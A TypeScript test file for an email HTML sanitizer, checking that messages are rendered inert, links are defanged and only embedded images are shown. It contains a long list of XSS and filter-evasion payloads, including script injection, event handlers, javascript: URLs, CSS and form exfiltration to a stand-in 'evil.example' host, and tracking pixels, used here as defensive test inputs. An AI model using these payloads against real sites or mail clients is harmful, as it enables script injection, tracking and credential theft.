import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { mailOf, multipart, plainHead } from './mail.fixture.ts';
import { showHtml } from './parse-mail.ts';
import { defanged, safeHtml } from './safe-html.ts';

const make = (html: string, cidImages = new Map()) => {
  const page = safeHtml(html, { cidImages });
  return page.slice(page.indexOf('<body>') + 6, page.lastIndexOf('</body>'));
};

/** Ways in which HTML has run scripts, loaded, sent or led somewhere; collected from advisories and filter-evasion lists. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1)">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<img src="http://track.example/1.gif" width=1 height=1>',
  '<img src="//track.example/1.gif">',
  '<img srcset="http://track.example/1.gif 1x, http://track.example/2.gif 2x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<picture><source srcset="http://track.example/1"><img src="http://track.example/2"></picture>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://evil.example" target=_top ping="https://evil.example/p">x</a>',
  '<map name=m><area shape=rect coords="0,0,99,99" href="https://evil.example"></map><img usemap="#m">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel="dns-prefetch" href="//evil.example">',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="background-image:url(&quot;//evil.example/x&quot;)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<p style="list-style-image:url(https://evil.example)">x</p>',
  '<p style="content:url(https://evil.example)">x</p>',
  '<p style="color:red;}</style><script>alert(1)</script>">x</p>',
  '<p style="font-family:\'x\';background:\\75rl(https://evil.example)">x</p>',
  '<form action="https://evil.example"><input name=password><button formaction="https://evil.example">x</button></form>',
  '<input type=image src="https://evil.example/x" onfocus=alert(1) autofocus>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<select onchange=alert(1)><option>x</option></select>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code=x></applet>',
  '<video src="https://evil.example/x" autoplay onloadstart=alert(1)><source src="https://evil.example/y"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1) background="https://evil.example/x">',
  '<table background="https://evil.example/x"><td background="https://evil.example/y">x',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '"><script>alert(1)</script>',
  '<p title="&quot; onmouseover=alert(1) x=&quot;">x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<p onclick\n=\n"alert(1)">x</p>',
  '<div dir="rtl" onpointerenter=alert(1)>x</div>',
  '<span data-target="&lt;script&gt;alert(1)&lt;/script&gt;">x</span>',
  '<a href="https://x.example/&quot;><script>alert(1)</script>">x</a>',
  '<font color="red;background:url(https://evil.example)">x</font>',
  '<keygen autofocus onfocus=alert(1)>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<portal src="https://evil.example"></portal>',
  '<x contenteditable onblur=alert(1)>x</x>',
];

/** Reads what comes out as a browser's tokenizer would: tags, and attributes with their values. */
function tokens(
  html: string,
): readonly { readonly tag: string; readonly attributes: readonly (readonly [string, string])[] }[] {
  return [...html.matchAll(/<\/?([a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"<>]*")?)*)\s*\/?>/gi)].map(
    ([, tag = '', rest = '']) => ({
      tag: tag.toLowerCase(),
      attributes: [...rest.matchAll(/([a-z-]+)(?:="([^"]*)")?/gi)].map(
        ([, name = '', value = '']) => [name.toLowerCase(), value] as const,
      ),
    }),
  );
}

const harmlessTags =
  /^(?:p|div|span|br|hr|pre|blockquote|center|h[1-6]|ul|ol|li|b|i|u|s|em|strong|code|font|table|caption|thead|tbody|tfoot|tr|td|th|col|colgroup|img|section|article|header|footer|address|dl|dt|dd|strike|del|ins|sub|sup|small|big|tt|kbd|q|cite|mark|abbr|ruby|rt|rp)$/;
const harmlessNames =
  /^(?:style|dir|lang|title|align|valign|color|size|face|border|cellpadding|cellspacing|colspan|rowspan|width|height|bgcolor|span|start|type|src|alt|class)$/;

function expectInert(html: string): void {
  const out = make(html);
  for (const { tag, attributes } of tokens(out)) {
    expect([html, tag]).toEqual([html, expect.stringMatching(harmlessTags)]);
    for (const [name, value] of attributes) {
      expect([html, name]).toEqual([html, expect.stringMatching(harmlessNames)]);
      if (name === 'src') expect(value).toMatch(/^data:image\/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]*$/);
      if (name === 'style') expect(value).not.toMatch(/url|expression|import|position|behavior|\\|@/i);
      if (name === 'class') expect(value).toMatch(/^(?:link|target)$/);
    }
  }
  // Every sign that could open a tag belongs to one that was read above.
  expect([html, out.replace(/<\/?[a-z][a-z0-9]*(?:\s+[a-z-]+(?:="[^"<>]*")?)*\s*\/?>/gi, '').includes('<')]).toEqual([
    html,
    false,
  ]);
}

describe('HTML of a mail, made inert', () => {
  it.each(hostile.map((html) => [html]))('S1 S2 S23 runs, loads, sends and leads nowhere: %s', (html) => {
    expectInert(html);
    expectInert(`<table><tr><td>${html}`);
    expectInert(`<p title='${html.replace(/'/g, '')}'>${html}</p>`);
  });

  it('S1 stays inert when pieces of attacks are put together at random', () => {
    const piece = fc.oneof(
      fc.constantFrom(...hostile),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '<!--',
        '-->',
        '</span>',
        '<span>',
        '<a href="x">',
        '</a>',
        '&lt;',
        '&#60;',
        '\u0000',
        ' ',
        '<p ',
        'style=',
        '=',
        '/',
        '\\',
      ),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => expectInert(pieces.join(''))),
      { numRuns: 1_500 },
    );
  });

  it('shows a link as text with its real target behind it, which no program makes a link of', () => {
    const out = make('<p><a href="https://phish.example/login?a=1&b=2">https://bank.example</a> です</p>');
    expect(out).toBe(
      '<p><span class="link">https://bank.example</span><code class="target">hxxps://phish[.]example/login?a=1&amp;b=2</code> です</p>',
    );
    expect(make('<a href="#top">上へ</a>')).toBe('<span>上へ</span>');
  });

  it.each([
    ['http://a.example/x', 'hxxp://a[.]example/x'],
    ['HTTPS://A.EXAMPLE', 'hxxps://a[.]example/'],
    ['https://аpple.example/', 'hxxps://xn--pple-43d[.]example/'],
    ['https://bank.example@evil.example/', 'hxxps://evil[.]example/'],
    ['mailto:taro@example.jp', 'mailto: taro[@]example.jp'],
    ['javascript:alert(1)', 'javascript[:]alert(1)'],
    ['https://', 'hxxps://'],
    ['#x', ''],
    ['', ''],
  ])('writes the target %j as %j', (href, expected) => {
    expect(defanged(href)).toBe(expected);
  });

  const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');

  it('shows pictures that lie in the mail and are pictures; of others only what they are called', () => {
    const cidImages = new Map([
      ['logo@x', { mediaType: 'image/png', bytes: png }],
      ['evil@x', { mediaType: 'image/png', bytes: Buffer.from('<svg onload=alert(1)>') }],
    ]);
    expect(make('<img src="cid:logo@x" alt="印" onerror=x>', cidImages)).toBe(
      `<img alt="印" src="data:image/png;base64,${png.toString('base64')}" />`,
    );
    expect(make('<img src="cid:evil@x" alt="印">', cidImages)).toBe('<span>▣ 印</span>');
    expect(make('<img src="https://track.example/1.gif" alt="印">')).toBe('<span>▣ 印 track[.]example</span>');
  });

  it('keeps what makes a mail readable: tables, lists, colours, Japanese, ruby', () => {
    const html =
      '<table border="1"><tbody><tr><td style="color:#c00;font-weight:bold">重要</td></tr></tbody></table><ul><li>一</li></ul><ruby>纏<rt>まとい</rt></ruby>';
    expect(make(html)).toBe(html.replace('color:#c00;font-weight:bold', 'color:#c00;font-weight:bold'));
  });

  it('is a page with its own rules', () => {
    expect(safeHtml('x', { cidImages: new Map() })).toContain(
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:; style-src 'unsafe-inline'">`,
    );
  });

  it('ends in time for what is nested, unclosed or large', () => {
    for (const html of [
      '<div>'.repeat(100_000),
      '<'.repeat(500_000),
      '<a href="'.repeat(50_000),
      '<b>'.repeat(300_000),
      '<!--'.repeat(100_000),
    ])
      expect(typeof make(html)).toBe('string');
  });
});

describe('the HTML of a mail with its pictures', () => {
  const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex').toString('base64');
  const withPicture = multipart(
    'Content-Type: text/html; charset=utf-8\r\n\r\n<p>印影 <img src="cid:seal@example.jp"></p>',
    `Content-Type: image/png\r\nContent-ID: <seal@example.jp>\r\nContent-Transfer-Encoding: base64\r\n\r\n${png}`,
  );
  const raw = mailOf([...plainHead, 'Content-Type: multipart/related; boundary=b'], withPicture);

  it('finds a picture by its Content-ID', async () => {
    expect(await showHtml(raw, [])).toMatchObject({
      isMade: true,
      html: expect.stringContaining(`data:image/png;base64,${png}`),
    });
  });

  it('of a mail inside the mail is found by the way to it', async () => {
    const outer = mailOf(
      [...plainHead, 'Content-Type: multipart/mixed; boundary=o'],
      Buffer.concat([Buffer.from('--o\r\nContent-Type: message/rfc822\r\n\r\n'), raw, Buffer.from('\r\n--o--\r\n')]),
    );
    expect(await showHtml(outer, [])).toEqual({ isMade: true, html: null });
    expect(await showHtml(outer, [0])).toMatchObject({ isMade: true, html: expect.stringContaining('印影') });
    expect(await showHtml(outer, [1])).toMatchObject({ isMade: false });
    expect(await showHtml(outer, [0, 7])).toMatchObject({ isMade: false });
  });
});
